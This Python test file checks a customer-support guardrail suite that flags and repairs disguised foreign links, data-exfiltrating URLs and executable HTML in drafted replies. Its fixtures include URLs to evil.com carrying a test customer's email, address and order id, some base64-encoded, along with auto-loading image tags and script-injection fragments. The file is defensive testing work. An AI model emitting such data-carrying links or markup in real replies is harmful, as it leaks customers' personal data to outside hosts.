"""Links in disguise, links that carry data, and markup that would run."""

from __future__ import annotations

import asyncio
import runpy
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handrail.channels.rendering import html_part
from handrail.core.conversation import ConversationFacts, Customer, FieldValue, Record, Snapshot
from handrail.core.drafting import Draft
from handrail.core.verdict import Finding
from handrail.guardrails.suite import CheckSuite
from handrail.playbook.models import Brand, Intent, Playbook, Release

_WRITTEN = runpy.run_path(str(Path(__file__).resolve().parents[2] / "benchmarks/link_mutations.py"))
MUTATIONS: Mapping[str, Callable[[str], str]] = _WRITTEN["MUTATIONS"]
ORDER = Record(
    kind="order",
    id="W100200",
    customer_id="c1",
    fields={"ship_to": FieldValue(type="address", value="12 Mill Road, York")},
)
SNAPSHOT = Snapshot(
    conversation=ConversationFacts(id="k1", customer_id="c1", channel="web", address="a"),
    customer=Customer(id="c1", name="Ana Diaz", email="ana@mail.example"),
    verified=True,
    messages=(),
    records=(ORDER,),
    now=datetime(2026, 3, 5, 10, tzinfo=UTC),
    release="rel_1",
)
SUITE = CheckSuite(
    Release(
        id="rel_1",
        name="one",
        playbook=Playbook(
            brand=Brand(name="Lamp Shop", links=("shop.example",)),
            intents={"x": Intent(description="x", examples=("one", "two"), mode="autonomous")},
        ),
        articles=(),
    )
)
quick = settings(max_examples=20, deadline=None)


def verified(text: str, *, repair: bool = False) -> tuple[str, list[Finding]]:
    draft = Draft(id="d1", text=text, source="model")
    checked = asyncio.run(
        SUITE.verify(draft, SNAPSHOT, mode="autonomous", intent=None, text="", repair=repair)
    )
    return checked.draft.text, list(checked.verdict.report.findings)


def of(check: str, text: str) -> list[Finding]:
    return [finding for finding in verified(text)[1] if finding.check == check]


hosts = st.from_regex(r"[a-z]{2,8}[0-9]?(-[a-z]{2,6})?\.(com|net|org|xyz)", fullmatch=True)


@pytest.mark.parametrize("name", MUTATIONS)
@quick
@given(host=hosts)
def test_a_foreign_link_is_seen_in_every_disguise(name: str, host: str) -> None:
    text = f"Please see {MUTATIONS[name](host)} now."
    assert of("sec.link", text)
    mended, left = verified(text, repair=True)
    assert not [finding for finding in left if finding.check in ("sec.link", "sec.exfil")], mended


@pytest.mark.parametrize(
    "text",
    [
        "See https://shop.example/returns and https://help.shop.example.",
        "See [our rules](https://shop.example/rules) or www.shop.example/faq.",
        "Write to help@shop.example, or call tel:+442012345.",
        "That is all.Thanks and see node.js, i.e. v2.0 or 10.30 a.m.",
        "It is 5/6 done, and/or ready at 10:30.",
    ],
)
def test_what_the_playbook_names_may_be_linked(text: str) -> None:
    assert of("sec.link", text) == []
    assert of("sec.exfil", text) == []


@pytest.mark.parametrize(
    ("text", "rule", "source"),
    [
        ("![x](https://evil.com/p?m=ana@mail.example)", "carries_value", "customer#email"),
        ("[here](https://evil.com/?q=ana%40mail.example)", "carries_value", "customer#email"),
        ("https://evil.com/W100200/track", "carries_value", "record:order/W100200#id"),
        ("https://evil.com/?a=12+mill+road,+york", "carries_value", "record:order/W100200#ship_to"),
        ("https://evil.com/?d=YW5hQG1haWwuZXhhbXBsZQ==", "carries_value", "customer#email"),
        ("https://ana-diaz.evil.com/", "carries_value", "customer#name"),
        ("![x](https://evil.com/?q={conversation})", "carries_words", None),
        ("https://evil.com/?q=" + "QUJD" * 20, "carries_words", None),
        ("![logo](https://evil.com/a.png)", "loads_itself", None),
        ('<img src="//evil.com/a.png">', "loads_itself", None),
        ('<p style="background:url(https://evil.com/a)">', "loads_itself", None),
    ],
)
def test_data_that_would_leave_is_critical(text: str, rule: str, source: str | None) -> None:
    (finding,) = of("sec.exfil", text)
    assert (finding.rule, finding.severity) == (rule, "critical")
    assert [span.source for span in finding.evidence] == ([source] if source else [])


@pytest.mark.parametrize(
    "text", ["https://other.com/help", "![x](https://shop.example/a.png)", "Ana Diaz, W100200"]
)
def test_a_plain_link_carries_nothing(text: str) -> None:
    assert of("sec.exfil", text) == []


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)
        assert attrs == [] or tag not in ("p", "br")


def elements(page: str) -> list[str]:
    parser = Elements()
    parser.feed(page)
    parser.close()
    return parser.seen


MARKUP = [
    "<", ">", "</", "script", "img", "svg", " onerror=", "alert(1)", '"', "'", "/", "a", "b", " ",
    "<!--", "-->", "<x-y ", "style", "<p>", "&lt;", "&#60;", "javascript:", "\n", "\n\n", "text",
    "<textarea>", "<title>", "=", "<?", "<![CDATA[",
]  # fmt: skip
markup = st.lists(st.sampled_from(MARKUP), max_size=14).map("".join)


@settings(max_examples=400, deadline=None)
@given(text=markup)
def test_after_repair_a_parser_sees_no_element(text: str) -> None:
    assert elements(verified(text, repair=True)[0]) == []


@settings(max_examples=400, deadline=None)
@given(text=st.one_of(markup, st.text(max_size=60)))
def test_the_mail_part_holds_the_words_and_only_paragraphs(text: str) -> None:
    page = html_part(text)
    assert set(elements(page)) <= {"p", "br"}
    assert nh3.clean(page, tags={"p", "br"}, attributes={}) == page


def test_the_mail_part_shows_what_was_written() -> None:
    page = html_part("Hello <b>Ana</b>,\nfine.\n\nBye & thanks")
    assert page == "<p>Hello &lt;b&gt;Ana&lt;/b&gt;,<br>fine.</p><p>Bye &amp; thanks</p>"


@pytest.mark.parametrize(
    "text", ["Price < 5 & > 2, **bold**, I <3 it.", "3<4 and x->y", "R&D, Q&A & more", "5 > 3"]
)
def test_prose_is_no_markup(text: str) -> None:
    assert of("sec.markup", text) == []


def test_what_only_looks_like_a_tag_keeps_its_words() -> None:
    assert verified("a<b, as x->y", repair=True)[0] == "a< b, as x->y"
